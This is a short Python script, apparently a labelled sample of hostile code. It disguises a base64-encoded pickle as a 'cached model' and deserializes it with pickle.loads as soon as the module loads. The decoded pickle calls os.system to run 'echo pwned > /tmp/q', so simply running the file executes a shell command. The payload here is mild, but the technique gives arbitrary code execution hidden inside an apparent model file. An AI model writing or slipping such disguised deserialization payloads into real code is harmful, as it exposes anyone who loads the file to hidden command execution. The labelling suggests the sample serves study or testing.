# harm: deserialize untrusted pickle; technique: pickle.loads of base64 blob presented as a "cached model"
import base64
import pickle

CACHED_MODEL = base64.b64decode(
    "gASVLQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjBJlY2hvIHB3bmVkID4gL3RtcC9xlIWUUpQu"
)


def load_model(blob):
    return pickle.loads(blob)


model = load_model(CACHED_MODEL)
print("model loaded", type(model))
